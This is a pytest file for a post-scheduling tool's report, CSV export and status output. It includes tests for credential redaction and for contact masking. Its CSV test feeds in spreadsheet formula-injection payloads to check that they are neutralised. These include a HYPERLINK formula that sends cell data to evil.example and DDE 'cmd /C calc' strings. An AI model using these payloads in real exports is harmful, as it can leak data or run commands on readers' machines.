"""The report's pure functions: rows, lateness, early detection, safe CSV, lines for people."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest

from stormer.ops.report import (
    ALERT,
    COLUMNS,
    EMPTY,
    duration,
    report_lines,
    report_rows,
    summary,
    to_csv,
)
from stormer.ops.status import status_doc, status_lines
from stormer.outbox.models import Outbox, State
from stormer.secrets import Secret, clean_error

T = datetime(2031, 3, 13, 18, 0, tzinfo=UTC)
NOW = T + timedelta(minutes=5)


def item(id: str, state: str = "pending", *, sent: float | None = None, **kw: Any) -> Outbox:
    """An outbox row as the database returns it; `sent` is seconds after T."""
    values: dict[str, Any] = {
        "kind": "post",
        "account": "acct",
        "platform": "mastodon",
        "fire_at": T,
        "sent_at": None if sent is None else T + timedelta(seconds=sent),
        "permalink": None,
        "error": None,
        "attempts": 1 if sent is not None else 0,
        "source": "posts/en.md",
        "text": "Free the students now #FreePalestinianStudents",
    } | kw
    return Outbox(id=id, state=state, **values)


def rows_of(*items: Outbox, now: datetime = NOW) -> list[dict[str, Any]]:
    return report_rows(items, now)


# --- rows and lateness -------------------------------------------------------------------------


def test_a_row_has_every_column_with_instants_in_utc() -> None:
    [row] = rows_of(
        item(
            "a",
            "sent",
            sent=1.25,
            permalink="https://m.example/@acct/1",
            fire_at=T.astimezone(timezone(timedelta(hours=2))),
        )
    )
    assert row == {
        "id": "a",
        "kind": "post",
        "account": "acct",
        "platform": "mastodon",
        "state": "sent",
        "fire_at": "2031-03-13T18:00:00Z",
        "sent_at": "2031-03-13T18:00:01.250000Z",
        "lateness_s": 1.25,
        "overdue_s": None,
        "permalink": "https://m.example/@acct/1",
        "error": None,
        "attempts": 1,
        "next_attempt_at": None,
        "worker": None,
        "post": "posts/en.md",
        "look_at": None,
    }
    assert tuple(row) == COLUMNS


def test_lateness_is_sent_minus_fire_and_null_until_sent() -> None:
    rows = rows_of(
        item("late", "sent", sent=2.5),
        item("on-time", "sent", sent=0),
        item("early", "sent", sent=-0.75),
        item("waiting", "pending", fire_at=NOW + timedelta(hours=1)),
    )
    assert [r["lateness_s"] for r in rows] == [2.5, 0.0, -0.75, None]


def test_overdue_is_for_unsent_items_past_their_time() -> None:
    rows = rows_of(
        item("p", "pending"),
        item("f", "failed", error="503"),
        item("c", "claimed"),
        item("s", "sent", sent=1),
        item("d", "dead"),
        item("future", "pending", fire_at=NOW + timedelta(seconds=1)),
    )
    assert {r["id"]: r["overdue_s"] for r in rows} == {
        "p": 300.0,
        "f": 300.0,
        "c": 300.0,
        "s": None,
        "d": None,
        "future": None,
    }


def test_an_item_in_flight_is_not_called_overdue_at_once() -> None:
    rows = rows_of(item("burst", "sending"), item("slow", "pending"), now=T + timedelta(seconds=30))
    assert [r["overdue_s"] for r in rows] == [30.0, 30.0]
    assert summary(rows)["overdue"] == []
    assert summary(rows_of(item("slow", "pending"), now=T + timedelta(seconds=61)))["overdue"] == [
        "slow"
    ]


def test_early_posts_are_listed_most_early_first_not_hidden_in_statistics() -> None:
    s = summary(
        rows_of(
            item("a", "sent", sent=-0.1),
            item("b", "sent", sent=3),
            item("c", "sent", sent=-5),
            item("d", "sent", sent=0),
        )
    )
    assert s["early"] == ["c", "a"]
    assert s["lateness"] == {"sent": 4, "min_s": -5.0, "p50_s": -0.1, "p99_s": 3.0, "max_s": 3.0}


def test_lateness_percentiles_are_nearest_rank() -> None:
    s = summary(rows_of(*(item(f"{i:03}", "sent", sent=i) for i in range(1, 101))))
    assert (s["lateness"]["p50_s"], s["lateness"]["p99_s"], s["lateness"]["max_s"]) == (
        50.0,
        99.0,
        100.0,
    )
    assert s["sent"] == 100 and s["early"] == []


def test_summary_counts_every_state_and_lists_the_problems() -> None:
    s = summary(
        rows_of(
            item("ok", "sent", sent=1),
            item("dead", "dead", error="401 revoked"),
            item("unc", "unconfirmed"),
            item("miss", "missed"),
            item("wait", "pending"),
        )
    )
    assert list(s["counts"]) == list(State)
    assert s["counts"] == dict.fromkeys(State, 0) | {
        "sent": 1,
        "dead": 1,
        "unconfirmed": 1,
        "missed": 1,
        "pending": 1,
    }
    assert s["total"] == 5 and s["sent"] == 1
    assert s["dead"] == [{"id": "dead", "error": "401 revoked"}]
    assert (s["unconfirmed"], s["missed"], s["overdue"], s["early"]) == (
        ["unc"],
        ["miss"],
        ["wait"],
        [],
    )


def test_an_empty_outbox_summarizes_to_nothing() -> None:
    s = summary([])
    assert s["total"] == 0 and s["lateness"]["p50_s"] is None and s["early"] == []
    assert report_lines(s, []) == [EMPTY]
    assert to_csv([]) == ",".join(COLUMNS) + "\r\n"


# --- secrets and participants' privacy ---------------------------------------------------------


def test_errors_are_redacted() -> None:
    Secret("s3cr3t-token-for-report-tests")
    [row] = rows_of(item("a", "failed", error="401 for s3cr3t-token-for-report-tests"))
    assert row["error"] == "401 for <redacted>"


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        (
            "POST https://api.telegram.org/bot123456:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw"
            "/sendMessage: 502",
            "POST https://api.telegram.org/bot<redacted>/sendMessage: 502",
        ),
        (
            "https://discord.com/api/webhooks/1234/abcDEF_ghi-jkl timed out",
            "https://discord.com/api/webhooks/1234/<redacted> timed out",
        ),
        (
            "sent Authorization: Bearer eyJhbGciOi.abc: 401",
            "sent Authorization: Bearer <redacted>: 401",
        ),
        ("GET /sync?access_token=syt_abc&since=1", "GET /sync?access_token=<redacted>&since=1"),
        (
            "connect postgresql://stormer:hunter2@db/storm",
            "connect postgresql://stormer:<redacted>@db/storm",
        ),
    ],
)
def test_credential_shapes_are_masked_even_when_not_resolved_here(raw: str, clean: str) -> None:
    assert clean_error(raw) == clean


def test_a_reminder_shows_name_and_channel_kind_never_an_address() -> None:
    [row] = rows_of(
        item(
            "r",
            "dead",
            kind="reminder",
            account="Gazainfo",
            platform="mailto",
            permalink="https://mail.example/msg/1",
            error="550 5.1.1 <newsroom@gazainfo.example.org>: no such user (via "
            "mailto://newsroom@gazainfo.example.org, sms +970 59 123 4567, "
            "matrix @gaza:matrix.example; retry 2031-03-13 18:00)",
        )
    )
    assert (row["account"], row["platform"], row["permalink"]) == ("Gazainfo", "mailto", None)
    assert row["error"] == (
        "550 5.1.1 <<contact>>: no such user (via <contact> sms <contact>, "
        "matrix <contact>; retry 2031-03-13 18:00)"
    )
    # A channel written as an address keeps only its kind.
    [row] = rows_of(item("r2", kind="reminder", account="A", platform="tgram://123/456"))
    assert row["platform"] == "tgram"
    # As stormer plans them: the channel kind from the payload, beside a hash of the contact.
    [row] = rows_of(
        item(
            "r3",
            kind="reminder",
            account="A",
            platform="reminder",
            payload={"channel": "telegram", "contact": "0123456789abcdef"},
        )
    )
    assert row["platform"] == "reminder:telegram"
    # A participant's name is a name, even when it starts with "@": contacts are masked, not
    # names.
    [row] = rows_of(item("r4", kind="reminder", account="@SUM(1+1) At Group", platform="mailto"))
    assert row["account"] == "@SUM(1+1) At Group"


def test_a_post_error_keeps_its_handles() -> None:
    [row] = rows_of(item("p", "dead", error="422 @campaign@m.example: text too long"))
    assert row["error"] == "422 @campaign@m.example: text too long"


# --- CSV -------------------------------------------------------------------------------------


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        ),
        ("+1", "'+1"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("harmless = text", "harmless = text"),
        ("", ""),
    ],
)
@pytest.mark.parametrize("column", ["account", "permalink", "error", "platform"])
def test_csv_cells_cannot_become_formulas(value: str, cell: str, column: str) -> None:
    change: dict[str, Any] = {column: value}
    [row] = rows_of(item("a", "dead", **change))
    header, cells = parse(to_csv([row]))
    assert dict(zip(header, cells, strict=True))[column] == cell


def test_csv_numbers_stay_numbers_and_null_is_empty() -> None:
    rows = rows_of(item("e", "sent", sent=-2, attempts=3), item("w", "pending"))
    assert to_csv(rows) == (
        "id,kind,account,platform,state,fire_at,sent_at,lateness_s,overdue_s,permalink,error,"
        "attempts,next_attempt_at,worker,post,look_at\r\n"
        "e,post,acct,mastodon,sent,2031-03-13T18:00:00Z,2031-03-13T17:59:58Z,-2.0,,,,3,,,"
        "posts/en.md,\r\n"
        "w,post,acct,mastodon,pending,2031-03-13T18:00:00Z,,,300.0,,,0,,,posts/en.md,\r\n"
    )


def test_csv_quotes_commas_quotes_and_newlines() -> None:
    [row] = rows_of(item("a", "dead", error='line one, "quoted"\nline two'))
    assert parse(to_csv([row]))[1][COLUMNS.index("error")] == 'line one, "quoted"\nline two'


# --- lines for people ----------------------------------------------------------------------------


def test_report_lines_put_problems_first_early_on_top() -> None:
    rows = rows_of(
        item("ok", "sent", sent=0.5, platform="x", account="cx", permalink="https://x.example/1"),
        item("dd", "dead", error="401 revoked"),
        item("un", "unconfirmed"),
        item("mi", "missed"),
        item("ea", "sent", sent=-3),
    )
    whole = report_lines(summary(rows), rows)
    assert whole[0] == "per platform and account:"
    assert whole[1].split()[:2] == ["platform/account", "sent"]
    lines = whole[whole.index("") + 1 :]
    assert lines[0].startswith(ALERT + "EARLY: 1 item(s) were sent BEFORE their time")
    assert lines[1] == "    ea  mastodon/acct  3.00 s early"
    assert (
        lines[2].startswith(ALERT + "DEAD: 1 item(s)")
        and "401 revoked → run `stormer login" in lines[3]
    )
    assert lines[4].startswith("UNCONFIRMED: 1 item(s)") and lines[6].startswith("MISSED: 1")
    assert "5 item(s): 2 sent, 1 dead, 1 unconfirmed, 1 missed" in lines
    assert "lateness: p50 -3.00 s, p99 +0.50 s, max +0.50 s" in lines
    table = lines[lines.index("") + 1 :]
    table = table[table.index("") + 1 :]
    assert table[0].split() == [
        "id",
        "fire",
        "at",
        "(UTC)",
        "state",
        "kind",
        "platform/account",
        "lateness",
        "result",
    ]
    assert table[1].split() == [
        "ok",
        "2031-03-13T18:00:00Z",
        "sent",
        "post",
        "x/cx",
        "+0.50",
        "s",
        "https://x.example/1",
    ]
    assert table[5].split()[-3:] == ["mastodon/acct", "-3.00", "s"]


def test_report_lines_say_when_all_is_well() -> None:
    rows = rows_of(item("ok", "sent", sent=0.5))
    lines = report_lines(summary(rows), rows)
    assert lines[lines.index("") + 1] == "No problems."


@pytest.mark.parametrize(
    ("seconds", "text"),
    [
        (0.4, "0.40 s"),
        (-2, "2.00 s"),
        (45, "45 s"),
        (200, "3 min 20 s"),
        (300, "5 min"),
        (7500, "2 h 5 min"),
        (90_000, "1 d 1 h"),
        (59.6, "1 min"),
    ],
)
def test_durations_for_people(seconds: float, text: str) -> None:
    assert duration(seconds) == text


# --- status ------------------------------------------------------------------------------------


def raw_status(**kw: Any) -> dict[str, Any]:
    counts = dict.fromkeys(State, 0) | kw.pop("counts", {})
    return {
        "storm": "s",
        "now": NOW,
        "counts": counts,
        "total": sum(counts.values()),
        "next_fire_at": None,
        "next_retry_at": None,
        "workers": [],
        "expired_leases": 0,
        "unknown_outcomes": [],
        "lateness": {
            "sent": 0,
            "min_s": None,
            "p50_s": None,
            "p99_s": None,
            "max_s": None,
            "early": [],
        },
    } | kw


WORKER = {
    "worker_id": "w1",
    "storm": "s",
    "hostname": "h",
    "pid": 7,
    "started_at": NOW - timedelta(hours=1),
    "heartbeat_at": NOW - timedelta(seconds=4),
    "staged_through": T,
    "stopped_at": None,
}


def test_no_worker_with_items_waiting_is_said_loudly_first() -> None:
    doc = status_doc(
        raw_status(counts={"pending": 3, "sent": 1}, next_fire_at=NOW + timedelta(seconds=200))
    )
    assert [a["code"] for a in doc["alerts"]] == ["no-worker"]
    assert doc["waiting"] == 3 and doc["next_fire_in_s"] == 200.0
    lines = status_lines(doc)
    assert lines[0] == (
        ALERT + "NO WORKER IS RUNNING: 3 item(s) are waiting, the first due in 3 min 20 s, "
        "and nothing will send them; start a worker with `stormer run`"
    )
    assert "next fire: 2031-03-13T18:08:20Z (in 3 min 20 s)" in lines


def test_a_live_worker_silences_the_alarm() -> None:
    doc = status_doc(
        raw_status(counts={"staged": 3}, workers=[WORKER], next_fire_at=NOW + timedelta(seconds=30))
    )
    assert doc["alerts"] == []
    assert doc["workers"] == [
        {
            "worker_id": "w1",
            "hostname": "h",
            "pid": 7,
            "started_at": "2031-03-13T17:05:00Z",
            "heartbeat_at": "2031-03-13T18:04:56Z",
            "heartbeat_age_s": 4.0,
            "staged_through": "2031-03-13T18:00:00Z",
        }
    ]
    assert (
        "    w1 on h (pid 7), heartbeat 4.00 s ago, staged through 2031-03-13T18:00:00Z"
        in status_lines(doc)
    )


def test_overdue_early_unknown_and_expired_are_alerts() -> None:
    doc = status_doc(
        raw_status(
            counts={"claimed": 1, "sending": 1, "sent": 1},
            workers=[WORKER],
            next_fire_at=NOW - timedelta(minutes=2),
            expired_leases=1,
            unknown_outcomes=["u"],
            lateness={
                "sent": 1,
                "min_s": -1.0,
                "p50_s": -1.0,
                "p99_s": -1.0,
                "max_s": -1.0,
                "early": ["e"],
            },
        )
    )
    assert [a["code"] for a in doc["alerts"]] == [
        "early",
        "overdue",
        "unknown-outcome",
        "expired-lease",
    ]
    lines = status_lines(doc)
    assert lines[0].startswith(ALERT + "1 item(s) were sent BEFORE their time")
    assert "next fire: 2031-03-13T18:03:00Z (2 min ago: OVERDUE)" in lines
    assert "unknown outcomes (1), being reconciled: u" in lines


def test_status_of_an_empty_outbox() -> None:
    lines = status_lines(status_doc(raw_status()))
    assert lines == [f"s: {EMPTY}", "workers alive: none (nothing is waiting)"]


@pytest.mark.parametrize(
    ("row", "says"),
    [
        (item("a", "dead", error="401 The access token is invalid"), "`stormer login acct`"),
        (
            item("b", "dead", error="text 312 > 280 characters"),
            "32 character(s) over the limit of 280",
        ),
        (
            item(
                "c",
                "dead",
                attempts=2,
                error="gave up within the grace: rate limited (HTTP 429); retry in 900.0 s; "
                "retry at 2031-03-13T18:15:01Z",
            ),
            "tried 2 time(s); the platform limited the rate until after the grace "
            "(it asked for 2031-03-13T18:15:01Z), so it was given up: "
            "send it with `stormer post --account acct --post posts/en.md`",
        ),
        (
            item("d", "unconfirmed", error="no answer"),
            "look at the account acct's page on mastodon: if the post is not there, "
            "send it with `stormer post --account acct --post posts/en.md`",
        ),
        (item("e", "dead", error="400 something else"), None),
    ],
)
def test_every_problem_says_what_to_do(row: Any, says: str | None) -> None:
    from stormer.ops.report import fix_for

    (got,) = rows_of(row)
    fix = fix_for(got)
    assert (fix is None) if says is None else (says in (fix or ""))
